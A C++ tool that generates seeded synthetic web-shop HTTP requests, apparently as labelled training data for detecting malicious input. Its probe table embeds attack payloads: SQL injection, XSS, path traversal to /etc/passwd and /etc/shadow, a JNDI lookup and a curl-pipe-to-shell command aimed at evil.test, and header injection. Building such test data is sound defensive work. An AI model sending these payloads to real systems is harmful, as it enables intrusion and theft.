// mlfeed_shop: the traffic of a small web shop, as raw HTTP requests, for the
// demonstration (scripts/demo). Output depends on the seed alone: the
// generator is a fixed Mersenne twister drawn with plain modulo, so a given
// seed gives the same bytes on every machine.
//
//   mlfeed_shop [--seed N] [--requests N] [--host HOST]
//       N requests over four URLs in turn (order shuffled per cycle):
//       GET /product?id, GET /search?q&page&sort,
//       POST /cart/add product_id&quantity&price,
//       POST /checkout name&email&address&zip&delivery_date&comment
//   mlfeed_shop --probe LABELS [--seed N] [--host HOST]
//       for every argument, two normal values and three attacks, each as a
//       request carrying that argument alone; LABELS gets one line
//       "LINE<TAB>KIND<TAB>ARGUMENT" per request (KIND normal or attack)
//
// The values are what customers type: names with accents, hyphens and
// apostrophes, e-mail addresses, street addresses, free text, dates, prices.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <vector>

namespace {

std::mt19937 rng;

size_t pick(size_t n) { return rng() % n; }
bool chance(unsigned percent) { return rng() % 100 < percent; }
template <size_t N>
const char *one(const char *const (&list)[N]) {
  return list[pick(N)];
}
std::string number(unsigned lo, unsigned hi) { return std::to_string(lo + pick(hi - lo + 1)); }

const char *const kFirst[] = {"James",  "Mary",   "Jose",  "Zoë",   "Anne-Marie", "Liam",
                              "Olivia", "Noah",   "Emma",  "Chloé", "Mohammed",   "Sofia",
                              "Lucas",  "Mia",    "Ethan", "Aoife", "Jürgen",     "Priya",
                              "Wei",    "Fatima", "Oscar", "Léa",   "Daniel",     "Hannah"};
const char *const kLast[] = {"Smith",  "Johnson", "O'Brien",  "García",   "Müller",   "Nguyen",
                             "Brown",  "Taylor",  "Dubois",   "Rossi",    "Kowalski", "Patel",
                             "Wilson", "Moore",   "van Dijk", "Andersen", "Silva",    "Kim",
                             "Martin", "Lee",     "Clarke",   "Evans"};
const char *const kStreets[] = {"Baker",  "High",   "Church", "Station",  "Mill",  "Park",
                                "Oak",    "Maple",  "Elm",    "Victoria", "Queen", "King",
                                "Market", "Chapel", "Green",  "Bridge"};
const char *const kStreetKinds[] = {"Street", "Road", "Avenue", "Lane", "Close", "Way", "Drive"};
const char *const kMailHosts[] = {"gmail.com", "yahoo.com", "outlook.com", "mail.example.org",
                                  "proton.me", "web.de",    "icloud.com"};
const char *const kWords[] = {"red",     "shoes",  "running", "jacket", "wool",    "scarf",
                              "leather", "bag",    "usb-c",   "cable",  "iphone",  "case",
                              "kids",    "winter", "boots",   "black",  "t-shirt", "cotton",
                              "gift",    "mug",    "coffee",  "lamp",   "desk",    "chair",
                              "LED",     "XL",     "size 42", "blue",   "organic", "tea"};
const char *const kSorts[] = {"relevance", "price_asc", "price_desc", "newest", "rating"};
const char *const kComments[] = {"Please leave the parcel with the neighbour",
                                 "Ring twice, the bell is broken.",
                                 "Gift wrap please!",
                                 "Deliver after 5pm",
                                 "No plastic packaging, thanks",
                                 "Call me on arrival",
                                 "Back door, flat 2",
                                 "It's a birthday present - don't include the invoice",
                                 "Leave at reception (office hours 9-17)",
                                 "thanks :)"};

// Form encoding of a value, as a browser sends it.
std::string encode(const std::string &v) {
  std::string out;
  for (unsigned char c : v) {
    if (isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out += static_cast<char>(c);
    } else if (c == ' ') {
      out += '+';
    } else {
      char hex[4];
      snprintf(hex, sizeof hex, "%%%02X", c);
      out += hex;
    }
  }
  return out;
}

std::string lower_ascii(std::string s) {
  std::string out;
  for (unsigned char c : s)
    if (isalpha(c)) out += static_cast<char>(tolower(c));
  return out.empty() ? "customer" : out;
}

struct Person {
  std::string first, last;
};

std::string gen_id() { return number(1, chance(80) ? 9999 : 99999); }
std::string gen_page() { return number(1, chance(85) ? 5 : 40); }
std::string gen_quantity() { return chance(90) ? number(1, 5) : one({"10", "12", "24", "6"}); }
std::string gen_price() {
  return number(1, chance(85) ? 120 : 999) + "." + one({"99", "95", "00", "50", "49", "25"});
}
std::string gen_zip() {
  if (chance(75)) {
    char buf[8];
    snprintf(buf, sizeof buf, "%05u", static_cast<unsigned>(pick(99999)));
    return buf;
  }
  return std::string(one({"SW1A", "EC2V", "M1", "B33", "LS6", "D02"})) + " " + number(1, 9) +
         one({"AA", "BT", "XY", "HN", "QZ"});
}
std::string gen_date() {
  char buf[16];
  const bool next_year = chance(30);
  snprintf(buf, sizeof buf, "%d-%02u-%02u", next_year ? 2027 : 2026, next_year ? 1u : 12u,
           static_cast<unsigned>(1 + pick(28)));
  return buf;
}
std::string gen_query() {
  std::string q = one(kWords);
  for (size_t n = pick(3); n > 0; n--) q += std::string(" ") + one(kWords);
  return q;
}
std::string gen_address() {
  std::string a =
      number(1, chance(80) ? 120 : 2400) + " " + one(kStreets) + " " + one(kStreetKinds);
  if (chance(20)) {
    a += ", Apt ";
    a += number(1, 30);
    a += one({"", "A", "B"});
  }
  return a;
}
std::string gen_email(const Person &p) {
  std::string local = lower_ascii(p.first);
  if (chance(50)) {  // appended in two steps: "." + rvalue trips g++ 12's -Wrestrict in Release
    local += '.';
    local += lower_ascii(p.last);
  }
  if (chance(30)) local += number(1, 99);
  return local + "@" + one(kMailHosts);
}
std::string gen_comment() { return chance(25) ? "" : one(kComments); }

struct Arg {
  std::string name, value;
};

void write_request(const std::string &host, const std::string &method, const std::string &path,
                   const std::vector<Arg> &args) {
  std::string form;
  for (const auto &a : args) form += (form.empty() ? "" : "&") + a.name + "=" + encode(a.value);
  const bool post = method == "POST";
  printf("%s %s%s%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n",
         method.c_str(), path.c_str(), post || form.empty() ? "" : "?", post ? "" : form.c_str(),
         host.c_str());
  if (post)
    printf("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %zu\r\n\r\n%s\r\n",
           form.size(), form.c_str());
  printf("\r\n");
}

void normal_request(const std::string &host, int kind) {
  switch (kind) {
    case 0:
      write_request(host, "GET", "/product", {{"id", gen_id()}});
      break;
    case 1:
      write_request(host, "GET", "/search",
                    {{"q", gen_query()}, {"page", gen_page()}, {"sort", one(kSorts)}});
      break;
    case 2:
      write_request(
          host, "POST", "/cart/add",
          {{"product_id", gen_id()}, {"quantity", gen_quantity()}, {"price", gen_price()}});
      break;
    default: {
      const Person p{one(kFirst), one(kLast)};
      write_request(host, "POST", "/checkout",
                    {{"name", p.first + " " + p.last},
                     {"email", gen_email(p)},
                     {"address", gen_address()},
                     {"zip", gen_zip()},
                     {"delivery_date", gen_date()},
                     {"comment", gen_comment()}});
    }
  }
}

void normal_traffic(const std::string &host, unsigned long requests) {
  int order[4] = {0, 1, 2, 3};
  for (unsigned long i = 0; i < requests; i++) {
    if (i % 4 == 0)
      for (int k = 3; k > 0; k--) std::swap(order[k], order[pick(k + 1)]);
    normal_request(host, order[i % 4]);
  }
}

// One argument of the probe: where it lives, how to make a normal value, and
// the attacks tried on it.
struct Probe {
  const char *method, *path, *name;
  std::string (*normal)();
  std::vector<std::string> attacks;
};

std::string gen_name() { return std::string(one(kFirst)) + " " + one(kLast); }
std::string gen_email_any() { return gen_email({one(kFirst), one(kLast)}); }
std::string gen_sort() { return one(kSorts); }
std::string gen_comment_text() { return one(kComments); }

// Every argument of the shop with its attacks.
const Probe kProbes[] = {
    {"GET",
     "/product",
     "id",
     gen_id,
     {"1 OR 1=1", "1' UNION SELECT password FROM users--", "../../../../etc/passwd"}},
    {"GET",
     "/search",
     "q",
     gen_query,
     {"<script>alert(document.cookie)</script>", "' OR ''='", "${jndi:ldap://evil.test/a}"}},
    {"GET",
     "/search",
     "page",
     gen_page,
     {"2;DROP TABLE products", "-1 UNION SELECT 1,2,3", "99999999999999999999"}},
    {"GET",
     "/search",
     "sort",
     gen_sort,
     {"price_asc;ls -la", "(SELECT SLEEP(5))", "relevance\r\nSet-Cookie: a=b"}},
    {"POST",
     "/cart/add",
     "product_id",
     gen_id,
     {"12 AND 1=1", "<img src=x onerror=alert(1)>", "0x7fffffff"}},
    {"POST", "/cart/add", "quantity", gen_quantity, {"-5", "1e308", "1;shutdown"}},
    {"POST", "/cart/add", "price", gen_price, {"0.00001", "-19.99", "19.99' OR 'x'='x"}},
    {"POST",
     "/checkout",
     "name",
     gen_name,
     {"Robert'); DROP TABLE students;--", "<svg/onload=alert(1)>", "{{7*7}}"}},
    {"POST",
     "/checkout",
     "email",
     gen_email_any,
     {"a@b.c\nBcc: victim@evil.test", "admin'--@shop.example", "<script>@x.com"}},
    {"POST",
     "/checkout",
     "address",
     gen_address,
     {"$(curl -s evil.test|sh)", "1 Main St'; EXEC xp_cmdshell('dir')--", "../../etc/shadow"}},
    {"POST",
     "/checkout",
     "zip",
     gen_zip,
     {"12345' AND SLEEP(5)--", "<b>x</b>", "00000000000000000000000000"}},
    {"POST",
     "/checkout",
     "delivery_date",
     gen_date,
     {"2026-12-24'||pg_sleep(10)--", "{{7*7}}", "1970-01-01T00:00:00<script>"}},
    {"POST",
     "/checkout",
     "comment",
     gen_comment_text,
     {"<iframe src=javascript:alert(1)>", "'; DELETE FROM orders; --", std::string(300, 'A')}},
};

// Raw requests of one argument each; the labels name the line each starts on.
void probe_traffic(const std::string &host, FILE *labels) {
  unsigned line = 1;
  auto emit = [&](const Probe &p, const char *kind, const std::string &value) {
    fprintf(labels, "%u\t%s\t%s\n", line, kind, p.name);
    write_request(host, p.method, p.path, {{p.name, value}});
    line += strcmp(p.method, "POST") == 0 ? 8 : 4;  // lines of one request as written
  };
  for (const Probe &p : kProbes) {
    for (int i = 0; i < 2; i++) emit(p, "normal", p.normal());
    for (const auto &a : p.attacks) emit(p, "attack", a);
  }
}

int usage() {
  fprintf(stderr,
          "usage: mlfeed_shop [--seed N] [--requests N] [--host HOST]\n"
          "       mlfeed_shop --probe LABELS [--seed N] [--host HOST]\n");
  return 1;
}

}  // namespace

int main(int argc, char **argv) {
  unsigned long seed = 1, requests = 1000;
  std::string host = "shop.example";
  const char *labels = nullptr;
  for (int i = 1; i < argc; i++) {
    const bool has_value = i + 1 < argc;
    if (!strcmp(argv[i], "--seed") && has_value)
      seed = strtoul(argv[++i], nullptr, 10);
    else if (!strcmp(argv[i], "--requests") && has_value)
      requests = strtoul(argv[++i], nullptr, 10);
    else if (!strcmp(argv[i], "--host") && has_value)
      host = argv[++i];
    else if (!strcmp(argv[i], "--probe") && has_value)
      labels = argv[++i];
    else
      return usage();
  }
  rng.seed(static_cast<std::mt19937::result_type>(seed));
  if (!labels) {
    normal_traffic(host, requests);
    return 0;
  }
  FILE *f = fopen(labels, "w");
  if (!f) {
    fprintf(stderr, "mlfeed_shop: cannot write %s\n", labels);
    return 1;
  }
  probe_traffic(host, f);
  fclose(f);
  return 0;
}
